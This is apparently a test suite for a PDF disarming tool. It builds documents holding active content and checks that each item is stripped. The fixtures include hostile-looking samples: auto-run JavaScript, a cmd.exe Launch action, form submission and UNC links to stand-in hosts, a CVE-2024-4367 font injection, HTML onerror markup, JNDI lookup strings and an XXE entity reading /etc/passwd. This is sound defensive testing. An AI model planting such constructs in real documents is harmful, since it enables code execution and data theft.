// disarmPdf on documents built in code: one per kind of active content, each checked three ways:
// the summary names what went, no byte of it stays in the copy, and the copy re-reads without
// anomaly and re-analyses (fast stage) without an action, script or attachment finding. Then the
// layouts that must be rewritten rather than copied: encryption, object streams, incremental updates,
// content outside the objects, XDP packages; and the inputs that cannot be disarmed.
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS, resolveLimits } from "../../limits";
import { readPdf } from "../../pdf/document";
import { PdfStream } from "../../pdf/objects";
import { emptyPasswordDocument } from "../../pdf/testing/encrypted-pdf";
import { PdfBuilder, appendUpdate, text, wrapInXdp } from "../../pdf/testing/pdf-builder";
import { encryptWithQpdf } from "../../pdf/testing/qpdf-encrypt";
import { analyzeFast } from "../analyze";
import { sfntFont } from "../facts/formats/testing/format-fixtures";
import { wordWebArchive } from "../embedded/testing/embedded-fixtures";
import { fdfFile } from "../techniques/testing/fixture-documents";
import { disarmPdf, type DisarmResult } from "./disarm-pdf";

type Disarmed = Extract<DisarmResult, { ok: true }>;

function disarm(pdf: Uint8Array, limits = {}): Disarmed {
  const r = disarmPdf(pdf, { limits });
  if (!r.ok) throw new Error(`disarm failed: ${r.error}`);
  return r;
}

/** Rule categories a disarmed copy must not trigger. */
const ACTIVE_CATEGORIES = ["javascript", "action", "embedded-file"];

function reanalyse(bytes: Uint8Array) {
  const doc = readPdf(bytes, DEFAULT_LIMITS);
  const result = analyzeFast(bytes, { fileName: "disarmed.pdf" });
  return {
    doc,
    result,
    active: result.findings.filter((f) => ACTIVE_CATEGORIES.includes(f.category)).map((f) => f.ruleId),
  };
}

/** A page of text, so the copy has something to keep. */
function withPage(b: PdfBuilder, catalogExtra = "", pageExtra = ""): void {
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const content = b.addFlateStream("", "BT /F1 12 Tf 72 720 Td (Quarterly report) Tj ET");
  b.addCatalog(catalogExtra, 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R ${pageExtra}`);
}

/** name, the summary's `what`, its kind, a text of the active content (must not be in the copy), the build */
const CASES: [string, string, string, string, (b: PdfBuilder) => { catalog?: string; page?: string }][] = [
  [
    "a document-open script (/OpenAction JavaScript)",
    "OpenAction JavaScript",
    "javascript",
    "open-marker",
    (b) => ({ catalog: `/OpenAction ${b.add("<< /S /JavaScript /JS (app.alert('open-marker')) >>")} 0 R` }),
  ],
  [
    "a page-open script (/AA /O on the page)",
    "AA/O JavaScript",
    "javascript",
    "page-marker",
    () => ({ page: "/AA << /O << /S /JavaScript /JS (this.print('page-marker')) >> >>" }),
  ],
  [
    "a document-level script (/Names /JavaScript)",
    "Names/JavaScript (init) JavaScript",
    "javascript",
    "tree_marker",
    (b) => ({
      catalog: `/Names << /JavaScript << /Names [(init) ${b.add("<< /S /JavaScript /JS (var tree_marker = 1;) >>")} 0 R] >> >>`,
    }),
  ],
  [
    "a Launch action on open",
    "OpenAction Launch",
    "launch",
    "launch-marker",
    () => ({ catalog: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c launch-marker) >> >>" }),
  ],
  [
    "a link to a URL (/A URI: the link stays, its action goes)",
    "A URI",
    "uri",
    "uri-marker",
    (b) => ({
      page: `/Annots [${b.add("<< /Type /Annot /Subtype /Link /Rect [72 700 300 714] /A << /S /URI /URI (http://uri-marker.example/x) >> >>")} 0 R]`,
    }),
  ],
  [
    "a form field that submits its data (SubmitForm)",
    "A SubmitForm",
    "submit-form",
    "submit-marker",
    (b) => {
      const field = b.add(
        "<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 620] /A << /S /SubmitForm /F (http://submit-marker.example/collect) >> >>",
      );
      return { catalog: `/AcroForm << /Fields [${field} 0 R] >>`, page: `/Annots [${field} 0 R]` };
    },
  ],
  [
    "an ImportData action",
    "OpenAction ImportData",
    "import-data",
    "import-marker",
    () => ({ catalog: "/OpenAction << /S /ImportData /F (import-marker.fdf) >>" }),
  ],
  [
    "a remote go-to to a UNC path (GoToR)",
    "A GoToR",
    "remote-goto",
    "unc-marker",
    (b) => ({
      page: `/Annots [${b.add("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\unc-marker.example\\\\share\\\\a.pdf) /D [0 /Fit] >> >>")} 0 R]`,
    }),
  ],
  [
    "a script chained behind a harmless action (/Next)",
    "Next JavaScript",
    "javascript",
    "next_marker",
    (b) => ({
      page: `/Annots [${b.add("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Named /N /NextPage /Next << /S /JavaScript /JS (next_marker()) >> >> >>")} 0 R]`,
    }),
  ],
  [
    "an attachment in the /EmbeddedFiles name tree",
    "Names/EmbeddedFiles",
    "embedded-file",
    "attachment-marker",
    (b) => {
      const file = b.addStream("/Type /EmbeddedFile", "MZ attachment-marker payload");
      return {
        catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${b.add(`<< /Type /Filespec /F (a.exe) /EF << /F ${file} 0 R >> >>`)} 0 R] >> >>`,
      };
    },
  ],
  [
    "a file attachment annotation",
    "Annotation FileAttachment",
    "embedded-file",
    "fileattachment-marker",
    (b) => {
      const file = b.addStream("/Type /EmbeddedFile", "fileattachment-marker");
      const spec = b.add(`<< /Type /Filespec /F (invoice.js) /EF << /F ${file} 0 R >> >>`);
      return {
        page: `/Annots [${b.add(`<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS ${spec} 0 R >>`)} 0 R]`,
      };
    },
  ],
  [
    "an XFA form (the AcroForm stays, its /XFA and /NeedsRendering go)",
    "AcroForm/XFA",
    "xfa",
    "xfa_marker",
    (b) => {
      const xfa = b.addStream(
        "",
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">xfa_marker()</script></template></xdp:xdp>',
      );
      return { catalog: `/NeedsRendering true /AcroForm << /Fields [] /XFA ${xfa} 0 R >>` };
    },
  ],
  [
    "a RichMedia (Flash) annotation and its assets",
    "Annotation RichMedia",
    "annotation",
    "richmedia-marker",
    (b) => {
      const swf = b.addStream("", "FWS\x0a richmedia-marker");
      const content = `<< /Assets << /Names [(a.swf) << /Type /Filespec /F (a.swf) /EF << /F ${swf} 0 R >> >>] >> >>`;
      return {
        page: `/Annots [${b.add(`<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent ${content} >>`)} 0 R]`,
      };
    },
  ],
  [
    "an encoded payload in an annotation's /Subj, for a script to read back",
    "Subj replaced",
    "payload",
    "9090eb9090eb",
    (b) => ({
      page: `/Annots [${b.add(`<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Subj (${"9090eb".repeat(400)}) >>`)} 0 R]`,
    }),
  ],
  [
    "code in a font's /FontMatrix (CVE-2024-4367)",
    "FontMatrix",
    "font-exploit",
    "fontmatrix-marker",
    (b) => ({
      page: `/Resources << /Font << /F9 ${b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\('fontmatrix-marker'\\)//)] >>")} 0 R >> >>`,
    }),
  ],
  [
    "a TrueType program with an overflowing SING table (CVE-2010-2883): the font falls back",
    "FontFile2",
    "font-exploit",
    "sing-marker",
    (b) => {
      const program = b.addStream("", sfntFont("SING", `sing-marker${"A".repeat(17)}`));
      const descriptor = b.add(`<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontFile2 ${program} 0 R >>`);
      return {
        page: `/Resources << /Font << /F9 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor ${descriptor} 0 R >>`)} 0 R /F1 ${b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")} 0 R >> >>`,
      };
    },
  ],
  [
    "a 3D model (U3D) stream hung on a key no annotation owns",
    "3D stream U3D",
    "media",
    "u3d-marker",
    (b) => ({ catalog: `/Model ${b.addStream("/Type /3D /Subtype /U3D", "U3D\0\0\0\0u3d-marker")} 0 R` }),
  ],
  [
    "an active keyword where no reader acts on it (a stray /JavaScript name)",
    "Extra /JavaScript",
    "javascript",
    "/JavaScript",
    () => ({ catalog: "/Extra /JavaScript" }),
  ],
  [
    "an image whose data is fetched from a share as the page is drawn (external stream /F)",
    "/F",
    "external-content",
    "extstream-marker",
    (b) => ({
      catalog: `/Pictures [${b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (file://extstream-marker.example/share/a.bin) >>", "\x80")} 0 R]`,
    }),
  ],
  [
    "a form that imports a page of a remote PDF (reference XObject /Ref)",
    "/Ref",
    "external-content",
    "ref-marker",
    (b) => ({
      catalog: `/Forms [${b.addStream("/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Ref << /F (\\\\ref-marker.example\\share\\a.pdf) /Page 0 >>", "")} 0 R]`,
    }),
  ],
];

describe("disarmPdf removes each kind of active content", () => {
  it.each(CASES)("%s", (_name, what, kind, marker, build) => {
    const b = new PdfBuilder();
    const { catalog = "", page = "" } = build(b);
    withPage(b, catalog, page);
    const input = b.build();
    expect(text(input)).toContain(marker);

    const r = disarm(input);
    expect(r.removed).toContainEqual(expect.objectContaining({ what, kind }));
    if (kind === "xfa") expect(r.removed).toContainEqual(expect.objectContaining({ what: "NeedsRendering", kind }));
    expect(r.counts[kind as keyof typeof r.counts]).toBeGreaterThan(0);
    expect(text(r.bytes)).not.toContain(marker);
    const { doc, result, active } = reanalyse(r.bytes);
    expect(doc.anomalies.items).toEqual([]);
    expect(active).toEqual([]);
    expect(result.findings.filter((f) => f.category === "exploit" || f.category === "obfuscation")).toEqual([]);
    expect(result.summary.verdict).toBe("benign");
    // the page and its text stay
    expect(doc.pages()).toHaveLength(1);
    expect(text(r.bytes)).toContain("/BaseFont /Helvetica");
  });

  it("shows each removal's detail: the script's head, the URL defanged, the program and its arguments", () => {
    const b = new PdfBuilder();
    withPage(
      b,
      "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /Next << /S /URI /URI (http://evil.example/x) >> >>",
    );
    const r = disarm(b.build());
    expect(r.removed.map((x) => [x.what, x.detail])).toEqual([
      ["OpenAction Launch", "cmd.exe /c calc"],
      ["Next URI", "hxxp[://]evil[.]example/x"],
    ]);
  });

  it("keeps what is not active: internal links, named destinations, outlines, the Info dictionary", () => {
    const b = new PdfBuilder();
    const link = b.add("<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>");
    b.info = b.add("<< /Title (Kept title) /Author (Someone) >>");
    withPage(b, "/PageMode /UseOutlines", `/Annots [${link} 0 R]`);
    const input = b.build();
    const r = disarm(input);
    expect(r.removed).toEqual([]);
    expect(r.counts).toEqual({});
    expect(text(r.bytes)).toContain("/S /GoTo");
    expect(text(r.bytes)).toContain("(Kept title)");
    const doc = readPdf(r.bytes, DEFAULT_LIMITS);
    expect(doc.anomalies.items).toEqual([]);
    expect(doc.pages()).toHaveLength(1);
  });

  it("blanks the angle brackets of HTML markup for a web viewer in strings, and keeps the rest of the text", () => {
    const b = new PdfBuilder();
    const note = b.add(
      `<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /T (Reviewer"><img src=x onerror=alert\\(1\\)>) /Contents (Totals are < 5% off) >>`,
    );
    b.info = b.add("<< /Title <FEFF0054003C007300630072006900700074003E0061003C002F007300630072006900700074003E> >>");
    withPage(b, "", `/Annots [${note} 0 R]`);
    const input = b.build();
    expect(analyzeFast(input, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain(
      "web-viewer-script-injection",
    );
    const r = disarm(input);
    expect(r.removed.filter((x) => x.kind === "payload")).toHaveLength(2);
    expect(text(r.bytes)).toContain(`(Reviewer"  img src=x onerror=alert\\(1\\) )`);
    // a comment whose '<' is prose is not markup: copied as it was
    expect(text(r.bytes)).toContain("(Totals are < 5% off)");
    expect(reanalyse(r.bytes).result.findings.map((f) => f.ruleId)).not.toContain("web-viewer-script-injection");
  });

  it("defuses payloads for document servers: a lookup's '$' is blanked, XML metadata with an external entity is left out", () => {
    const b = new PdfBuilder();
    const xmp = b.addStream(
      "/Type /Metadata /Subtype /XML",
      `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x:xmpmeta xmlns:x="adobe:ns:meta/"/>`,
    );
    // the title in UTF-16BE: "${jndi:ldap://logs.example/a}"
    const title = Buffer.from("\ufeff${jndi:ldap://logs.example/a}", "utf16le").swap16().toString("hex");
    b.info = b.add(`<< /Title <${title}> /Author (\${jndi:rmi://logs.example/o}) /Subject (costs in \${currency}) >>`);
    withPage(b, `/Metadata ${xmp} 0 R`);
    const input = b.build();
    const before = analyzeFast(input, { fileName: "x.pdf" }).findings.map((f) => f.ruleId);
    expect(before).toEqual(expect.arrayContaining(["server-lookup-injection", "metadata-external-entity"]));
    const r = disarm(input);
    expect(r.removed.filter((x) => x.kind === "payload").map((x) => x.what)).toEqual(
      expect.arrayContaining(["Title string", "Author string", "XML metadata"]),
    );
    expect(text(r.bytes)).toContain("( {jndi:rmi://logs.example/o})");
    // a placeholder that is no lookup of a server is copied as it was
    expect(text(r.bytes)).toContain("(costs in ${currency})");
    const after = reanalyse(r.bytes).result.findings.map((f) => f.ruleId);
    expect(after).not.toContain("server-lookup-injection");
    expect(after).not.toContain("metadata-external-entity");
  });

  it("leaves out a file share or web address named by any file specification, even where a damaged owner no longer says what it is", () => {
    const b = new PdfBuilder();
    // a file attachment annotation whose /Subtype was lost: its /FS still names the share
    const note = b.add(
      `<< /Type /Annot /Rect [0 0 10 10] /FS << /Type /Filespec /F (\\\\\\\\files.example\\\\share\\\\a.pdf) >> >>`,
    );
    withPage(b, "", `/Annots [${note} 0 R]`);
    const input = b.build();
    expect(analyzeFast(input, { fileName: "x.pdf" }).findings.map((f) => f.ruleId)).toContain("remote-file-target");
    const r = disarm(input);
    expect(r.removed.filter((x) => x.kind === "external-content").map((x) => x.what)).toEqual(["/F"]);
    expect(text(r.bytes)).not.toContain("files.example");
    expect(reanalyse(r.bytes).result.findings.map((f) => f.ruleId)).not.toContain("remote-file-target");
  });

  it("disarms an FDF file: the document it opens and its scripts are left out", () => {
    const input = fdfFile(`/F (https://forms.example/claim.pdf) /JavaScript << /Before (app.alert\\(1\\)) >>`);
    const r = disarm(input);
    expect(r.removed.map((x) => x.what)).toEqual(expect.arrayContaining(["FDF /F"]));
    expect(text(r.bytes)).not.toContain("forms.example");
    expect(text(r.bytes)).not.toContain("app.alert");
    const after = reanalyse(r.bytes).result.findings.filter((f) => ACTIVE_CATEGORIES.includes(f.category));
    expect(after).toEqual([]);
  });

  it("compresses a stream that holds a Word web archive in the clear, so Word no longer opens the copy as that document", () => {
    const b = new PdfBuilder();
    const archive = wordWebArchive({ macros: true });
    // a stream the page refers to (a form it draws), so it is written: unreferenced ones are left out anyway
    const form = b.addStream("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", archive);
    withPage(b, "", `/Resources << /XObject << /Fm0 ${form} 0 R >> >>`);
    const input = b.build();
    expect(analyzeFast(input, { fileName: "x.doc" }).findings.map((f) => f.ruleId)).toContain(
      "office-document-polyglot",
    );
    const r = disarm(input);
    expect(r.removed.filter((x) => x.kind === "payload").map((x) => x.detail)).toEqual([
      expect.stringContaining("web archive"),
    ]);
    expect(text(r.bytes)).not.toContain("multipart/related");
    const copy = readPdf(r.bytes, DEFAULT_LIMITS);
    const xobject = copy.dict(copy.dict(copy.pages()[0].dict.get("Resources"))?.get("XObject"))?.get("Fm0");
    expect(text(copy.decode(copy.resolve(xobject) as PdfStream).data)).toBe(archive);
    expect(reanalyse(r.bytes).result.findings.map((f) => f.ruleId)).not.toContain("office-document-polyglot");
  });

  it("copies content streams byte for byte, with their filters", () => {
    const b = new PdfBuilder();
    withPage(b, "/OpenAction << /S /JavaScript /JS (x()) >>");
    const input = readPdf(b.build(), DEFAULT_LIMITS);
    const output = readPdf(disarm(b.build()).bytes, DEFAULT_LIMITS);
    const contents = (doc: typeof input) =>
      doc.decode(doc.resolve(doc.pages()[0].dict.get("Contents")) as PdfStream).data;
    expect(text(contents(output))).toBe("BT /F1 12 Tf 72 720 Td (Quarterly report) Tj ET");
    expect(text(contents(output))).toBe(text(contents(input)));
  });
});

describe("disarmPdf writes a whole new file", () => {
  it("writes an encrypted document decrypted: scripts gone, content in the clear, no /Encrypt", () => {
    const pdf = emptyPasswordDocument((b, { encryptString, encryptBytes }) => {
      b.addStream("", encryptBytes(30, "BT (secret-page-text) Tj ET"), { num: 30 });
      return `/OpenAction ${b.add(`<< /S /JavaScript /JS ${encryptString(31, "app.alert('enc-marker')")} >>`, { num: 31 })} 0 R`;
    }, "/Contents 30 0 R");
    expect(readPdf(pdf, DEFAULT_LIMITS).security.state).toBe("decrypted");
    const r = disarm(pdf);
    expect(r.decrypted).toBe(true);
    expect(r.removed).toContainEqual(
      expect.objectContaining({ what: "OpenAction JavaScript", detail: "app.alert('enc-marker')" }),
    );
    expect(text(r.bytes)).toContain("secret-page-text");
    expect(text(r.bytes)).not.toContain("/Encrypt");
    const { doc, result, active } = reanalyse(r.bytes);
    expect(doc.encrypted).toBe(false);
    expect(active).toEqual([]);
    expect(result.findings.map((f) => f.ruleId)).not.toContain("encrypted-document");
  });

  it.each([
    ["RC4 128-bit (R3)", ["", "owner", "128", "--use-aes=n"]],
    ["AES-128 (R4), metadata in the clear", ["", "owner", "128", "--use-aes=y", "--cleartext-metadata"]],
    ["AES-256 (R6), object streams", ["", "owner", "256"], ["--object-streams=generate"]],
  ])("writes a file qpdf encrypted (%s) decrypted", (_name, args, extra = []) => {
    const b = new PdfBuilder();
    const meta = b.addStream(
      "/Type /Metadata /Subtype /XML",
      "<x:xmpmeta xmlns:x='adobe:ns:meta/'>metadata-marker</x:xmpmeta>",
    );
    withPage(b, `/Metadata ${meta} 0 R /OpenAction << /S /JavaScript /JS (qpdf_marker()) >>`);
    const r = disarm(encryptWithQpdf(b.build(), args, extra));
    expect(r.decrypted).toBe(true);
    expect(r.removed).toContainEqual(
      expect.objectContaining({ what: "OpenAction JavaScript", detail: "qpdf_marker()" }),
    );
    const { doc, active } = reanalyse(r.bytes);
    expect(doc.anomalies.items).toEqual([]);
    expect(active).toEqual([]);
    const content = doc.resolve(doc.pages()[0].dict.get("Contents")) as PdfStream;
    expect(text(doc.decode(content).data)).toBe("BT /F1 12 Tf 72 720 Td (Quarterly report) Tj ET");
    expect(text(doc.decode(doc.resolve(doc.catalog?.get("Metadata")) as PdfStream).data)).toContain("metadata-marker");
  });

  it("expands object streams: members written as plain objects, the script among them gone", () => {
    const b = new PdfBuilder();
    const js = b.add("<< /S /JavaScript /JS (objstm_marker()) >>", { inObjStm: true });
    const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>", { inObjStm: true });
    const content = b.addFlateStream("", "BT /F1 9 Tf (inside) Tj ET");
    b.addCatalog(`/OpenAction ${js} 0 R`, 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
    const input = b.build();
    expect(readPdf(input, DEFAULT_LIMITS).objectStreams).toBe(1);
    const r = disarm(input);
    expect(r.removed).toContainEqual(expect.objectContaining({ object: `${js} 0`, what: "OpenAction JavaScript" }));
    const doc = readPdf(r.bytes, DEFAULT_LIMITS);
    expect(doc.objectStreams).toBe(0);
    expect(doc.xrefSections.map((s) => s.kind)).toEqual(["table"]);
    expect(text(r.bytes)).toContain("/BaseFont /Courier");
    expect(reanalyse(r.bytes).active).toEqual([]);
  });

  it("keeps one revision: a script an incremental update orphaned is listed and not written", () => {
    const b = new PdfBuilder();
    const old = b.add("<< /S /JavaScript /JS (old_revision_marker()) >>");
    withPage(b, `/OpenAction ${old} 0 R`);
    const base = b.build();
    const updated = appendUpdate(base, [{ num: b.root, body: `<< /Type /Catalog /Pages ${b.root + 1} 0 R >>` }]);
    const r = disarm(updated);
    expect(r.removed).toEqual([
      expect.objectContaining({ object: `${old} 0`, what: "unreferenced JavaScript action", kind: "javascript" }),
    ]);
    expect(r.objects).toMatchObject({ superseded: 1, leftOut: 1 });
    expect(text(r.bytes)).not.toContain("old_revision_marker");
    expect(readPdf(r.bytes, DEFAULT_LIMITS).xrefSections).toHaveLength(1);
  });

  it("leaves out active names outside every object, which a tolerant viewer could rebuild", () => {
    const b = new PdfBuilder();
    withPage(b);
    b.addJunk("<< /S /JavaScript /JS (stray_marker()) >>\n");
    const input = b.build();
    expect(analyzeFast(input, { fileName: "in.pdf" }).findings.map((f) => f.ruleId)).toContain("hidden-active-keyword");
    const r = disarm(input);
    expect(text(r.bytes)).not.toContain("stray_marker");
    const { result } = reanalyse(r.bytes);
    expect(result.findings).toEqual([]);
  });

  it("unwraps an XDP package: the copy is the inner PDF, the XML form around it is dropped", () => {
    const b = new PdfBuilder();
    withPage(b, "/OpenAction << /S /JavaScript /JS (xdp_inner_marker()) >>");
    const r = disarm(wrapInXdp(b.build()));
    expect(r.removed.map((x) => x.kind)).toEqual(["xdp-package", "javascript"]);
    expect(text(r.bytes.subarray(0, 8))).toBe("%PDF-1.7");
    expect(text(r.bytes)).not.toContain("xdp_inner_marker");
  });

  it("rebuilds a page tree readers refuse: /Pages pointing at a page, a tree reaching no page, no /Pages at all", () => {
    const atPage = new PdfBuilder();
    const page = atPage.add("<< /Type /Page /MediaBox [0 0 200 200] >>");
    atPage.root = atPage.add(`<< /Type /Catalog /Pages ${page} 0 R >>`);
    const r1 = disarm(atPage.build());
    expect(r1.notes).toEqual(["the catalog's /Pages was no page tree node: rebuilt over the 1 page(s) found"]);
    expect(readPdf(r1.bytes, DEFAULT_LIMITS).pages()).toHaveLength(1);

    const orphan = new PdfBuilder();
    orphan.add("<< /Type /Page /MediaBox [0 0 300 300] >>");
    orphan.root = orphan.add(
      `<< /Type /Catalog /Pages ${orphan.add("<< /Type /Pages /Kids [] /Count 213804087 >>")} 0 R >>`,
    );
    const r3 = disarm(orphan.build());
    expect(r3.notes).toEqual(["the page tree reached no page: rebuilt over the 1 page object(s) in the file"]);
    expect(readPdf(r3.bytes, DEFAULT_LIMITS).pages()[0].dict.get("MediaBox")).toEqual([0, 0, 300, 300]);

    const none = new PdfBuilder();
    none.root = none.add("<< /Type /Catalog >>");
    const r2 = disarm(none.build());
    expect(r2.notes).toEqual(["the document has no page: the page tree is one blank page"]);
    const doc = readPdf(r2.bytes, DEFAULT_LIMITS);
    expect(doc.pages()).toHaveLength(1);
    expect(doc.anomalies.items).toEqual([]);
  });

  it("numbers the copy's objects 1..n, whatever numbers the input used", () => {
    const b = new PdfBuilder();
    b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", { num: 50_000 });
    b.addCatalog("", 1, "/Resources << /Font << /F1 50000 0 R >> >>");
    const r = disarm(b.build());
    expect(text(r.bytes)).toMatch(/xref\n0 5\n/);
    expect(text(r.bytes)).toContain("4 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    expect(r.objects).toMatchObject({ read: 4, written: 4 });
  });

  it("lists removals up to DISARM_MAX_LISTED_REMOVALS and counts them all", () => {
    const b = new PdfBuilder();
    const links = [1, 2, 3].map((i) =>
      b.add(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://l${i}.example/) >> >>`),
    );
    withPage(b, "", `/Annots [${links.map((l) => `${l} 0 R`).join(" ")}]`);
    const r = disarm(b.build(), { DISARM_MAX_LISTED_REMOVALS: 2 });
    expect(r.removed).toHaveLength(2);
    expect(r.unlisted).toBe(1);
    expect(r.counts.uri).toBe(3);
  });
});

describe("disarmPdf on what cannot be disarmed", () => {
  it.each([
    ["not a PDF", new TextEncoder().encode("just some text, no objects")],
    ["a PDF without a catalog", new PdfBuilder().build()],
  ])("answers an error for %s, without throwing", (_name, input) => {
    const r = disarmPdf(input);
    expect(r).toEqual({ ok: false, error: "no document catalog (/Root) found: nothing to rewrite" });
  });

  it("refuses an input over MAX_INPUT_BYTES", () => {
    const b = new PdfBuilder();
    withPage(b);
    const r = disarmPdf(b.build(), { limits: resolveLimits({ MAX_INPUT_BYTES: 100 }) });
    expect(r.ok).toBe(false);
  });

  it("refuses a document encrypted with a password it does not have", () => {
    const b = new PdfBuilder();
    const enc = b.add("<< /Filter /Standard /V 1 /R 2 /Length 40 /P -44 /O <00> /U <00> >>");
    withPage(b);
    const r = disarmPdf(b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00> <00>]` }));
    expect(r).toMatchObject({ ok: false, error: expect.stringMatching(/^encrypted .*cannot be disarmed$/) });
  });
});
